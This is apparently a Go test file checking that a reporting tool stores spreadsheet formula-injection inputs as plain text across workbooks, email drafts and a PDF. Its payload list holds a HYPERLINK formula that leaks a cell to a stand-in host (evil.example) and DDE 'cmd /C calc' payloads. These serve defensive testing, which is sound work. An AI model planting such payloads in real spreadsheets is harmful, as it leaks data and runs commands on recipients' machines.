package main

import (
	"bytes"
	"encoding/base64"
	"io"
	"mime"
	"mime/multipart"
	"net/mail"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"planreport/internal/hostile"
	"planreport/plan"
	"planreport/templates"
	"planreport/workspace"
)

// injections are what a unit may type that a spreadsheet would take for a formula, a DDE
// command or a link.
var injections = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
}

var reFormula = regexp.MustCompile(`<f[ >/]`)

// TestFormulaInjection sends workbooks whose text cells start with =, +, - and @ (a link, DDE
// commands), under file names that do too, and checks that every output holds them as plain
// text: the findings workbook, the unit's feedback workbook (its own cells still strings, our
// list strings), the report workbook (no formula anywhere), the email drafts (plain text) and
// the PDF (no link or action).
func TestFormulaInjection(t *testing.T) {
	ws, _ := hardWorkspace(t, func(p *plan.Plan) {
		for i := range p.Units {
			p.Units[i].Email = "unit@example.gov.cn"
		}
	})
	// 区委编办 leads task 1.1, overdue and red: the problem it states reaches the PDF. Its workbook is accepted; 宝山镇's
	// is rejected (an injected status), so that it gets feedback and a reply draft.
	good := filledTemplate(t, ws, "区委编办", func(f *excelize.File, set cellSetter) {
		set(templates.ColProgress, 0, injections[0])
		set(templates.ColProblems, 0, injections[1])
		set(templates.ColNextSteps, 0, injections[2])
		set(templates.ColEvidence, 0, injections[3])
		set(templates.ColProgress, 1, injections[4])
		set(templates.ColStatus, 2, "完成") // a warning: the file is listed in the findings
	})
	bad := filledTemplate(t, ws, "宝山镇", func(f *excelize.File, set cellSetter) {
		set(templates.ColStatus, 0, injections[1])
		set(templates.ColPercent, 0, "=1+99")
		set(templates.ColProgress, 0, injections[0])
		set(templates.ColProblems, 0, injections[4])
	})
	at := time.Date(2024, 1, 5, 10, 0, 0, 0, time.Local)
	putInbox(t, ws, "=1+2.xlsx", good, at)
	putInbox(t, ws, "报送.eml", emlWith("unit@example.gov.cn", "Fri, 05 Jan 2024 10:00:00 +0800",
		map[string][]byte{`@SUM(1)+cmd.xlsx`: bad}), at)
	runOK(t, "collect", "-w", ws, "--period", hardQ4.String(), "--eml")
	runOK(t, "status", "-w", ws, "--period", hardQ4.String(), "--eml")
	var rep struct{ PDF, XLSX string }
	readJSON(t, runOK(t, "report", "-w", ws, "--period", hardQ4.String(), "--date", "2024-01-15", "--json"), &rep)
	period := filepath.Join(ws, hardQ4.String())

	// The findings workbook quotes the injected status and names the files.
	findings := filepath.Join(period, workspace.FindingsName)
	texts := checkStringsOnly(t, findings, nil)
	for _, want := range []string{"=1+2.xlsx", "@SUM(1)+cmd.xlsx"} {
		if !texts[want] {
			t.Errorf("%s: no string cell %q", workspace.FindingsName, want)
		}
	}
	if !anyContains(texts, "“"+injections[1]+"”") {
		t.Errorf("%s does not quote the injected status", workspace.FindingsName)
	}

	// The feedback workbook: the unit's cells are the strings it typed; our list is strings.
	feedback := filepath.Join(period, workspace.FeedbackDir, "宝山镇"+"_反馈.xlsx")
	texts = checkStringsOnly(t, feedback, nil)
	for _, s := range []string{injections[0], injections[1], injections[4], "=1+99"} {
		if !texts[s] {
			t.Errorf("%s: the unit's %q is no longer a string cell", filepath.Base(feedback), s)
		}
	}

	// The report workbook: every injected text, as a string; no formula anywhere.
	texts = checkStringsOnly(t, rep.XLSX, nil)
	for _, s := range injections {
		if !texts[s] {
			t.Errorf("the report workbook has no string cell %q", s)
		}
	}

	// The email drafts are plain text.
	filepath.WalkDir(period, func(path string, d os.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(path, ".eml") || strings.Contains(path, "收件") || strings.Contains(path, "原件") {
			return err
		}
		checkPlainDraft(t, path)
		return nil
	})

	// The PDF: the text as typed, and no link, launch or script action.
	pdf, err := os.ReadFile(rep.PDF)
	if err != nil {
		t.Fatal(err)
	}
	checkPDF(t, rep.PDF, pdf)
	for _, action := range []string{"/URI", "/Launch", "/JavaScript", "/JS", "/SubmitForm", "/ImportData"} {
		if bytes.Contains(pdf, []byte(action)) {
			t.Errorf("the PDF holds %s", action)
		}
	}
	// The brief quotes the problem the lead of a red task stated: as typed.
	text := strings.Join(strings.Fields(pdfTextOf(t, rep.PDF)), "")
	if !strings.Contains(text, strings.Join(strings.Fields(injections[1]), "")) {
		t.Error("the PDF does not show the injected problem as typed")
	}
}

// checkStringsOnly opens a workbook we wrote and fails the test for any formula in its
// sheets' XML, and for any cell whose text starts with =, +, - or @ that is not a string cell
// (t="s" or t="inlineStr"). It returns the texts of the string cells.
func checkStringsOnly(t *testing.T, path string, skipSheets []string) map[string]bool {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s does not open: %v", path, err)
	}
	defer f.Close()
	texts := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		part, err := hostile.SheetPart(data, sheet)
		if err != nil {
			t.Fatal(err)
		}
		xml, err := hostile.Part(data, part)
		if err != nil {
			t.Fatal(err)
		}
		if reFormula.Match(xml) {
			t.Errorf("%s「%s」: a formula in the sheet's XML", filepath.Base(path), sheet)
		}
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				if v == "" {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				typ, _ := f.GetCellType(sheet, cell)
				isString := typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString
				if isString {
					texts[v] = true
				}
				if strings.ContainsAny(v[:1], "=+-@") && !isString {
					t.Errorf("%s「%s」%s: %q is not a string cell (type %v)", filepath.Base(path), sheet, cell, v, typ)
				}
			}
		}
	}
	return texts
}

func anyContains(texts map[string]bool, sub string) bool {
	for s := range texts {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}

// checkPlainDraft fails the test unless an email draft's body is text/plain and its only
// other parts are attachments.
func checkPlainDraft(t *testing.T, path string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	msg, err := mail.ReadMessage(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("%s: %v", filepath.Base(path), err)
	}
	mt, params, err := mime.ParseMediaType(msg.Header.Get("Content-Type"))
	if err == nil && mt == "text/plain" { // a message without attachments is one plain part
		body, _ := base64.StdEncoding.DecodeString(strings.ReplaceAll(readAll(msg.Body), "\r\n", ""))
		if strings.Contains(string(body), "<a ") || strings.Contains(string(body), "<html") {
			t.Errorf("%s: markup in the body", filepath.Base(path))
		}
		return
	}
	if err != nil || mt != "multipart/mixed" {
		t.Fatalf("%s: Content-Type %q", filepath.Base(path), msg.Header.Get("Content-Type"))
	}
	mr := multipart.NewReader(msg.Body, params["boundary"])
	for i := 0; ; i++ {
		p, err := mr.NextPart()
		if err != nil {
			break
		}
		ct := p.Header.Get("Content-Type")
		switch {
		case i == 0 && !strings.HasPrefix(ct, "text/plain"):
			t.Errorf("%s: the body is %q, not plain text", filepath.Base(path), ct)
		case i > 0 && !strings.HasPrefix(p.Header.Get("Content-Disposition"), "attachment"):
			t.Errorf("%s: part %d (%s) is not an attachment", filepath.Base(path), i, ct)
		case i == 0:
			body, _ := base64.StdEncoding.DecodeString(strings.ReplaceAll(readAll(p), "\r\n", ""))
			if strings.Contains(string(body), "<a ") || strings.Contains(string(body), "<html") {
				t.Errorf("%s: markup in the body", filepath.Base(path))
			}
		}
	}
}

func readAll(p io.Reader) string {
	var b bytes.Buffer
	b.ReadFrom(p)
	return b.String()
}
